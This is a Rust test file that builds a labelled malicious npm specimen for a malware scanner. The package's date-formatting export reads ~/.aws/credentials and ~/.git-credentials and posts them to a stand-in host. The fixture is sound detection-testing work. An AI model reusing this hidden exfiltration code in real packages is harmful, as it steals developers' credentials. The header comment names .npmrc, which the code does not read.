//! An npm package that is quiet until an exported function is called; then it sends `~/.npmrc` and `~/.aws`.
//!
//! Must be found: in the execute phase only.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const INDEX: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
exports.format = function format(date, pattern) {
  for (const name of ['.aws/credentials', '.git-credentials']) {
    let text;
    try {
      text = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch {
      continue;
    }
    const request = https.request({ host: 'api.example', method: 'POST', path: '/f' }, (answer) => answer.resume());
    request.on('error', () => {});
    request.end(JSON.stringify({ name, text }));
  }
  return String(date);
};
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("tiny-date-format", "5.0.1")
        .field("main", "index.js".into())
        .file("index.js", INDEX);
    Specimen {
        name: "npm-steals-when-called",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    }
}
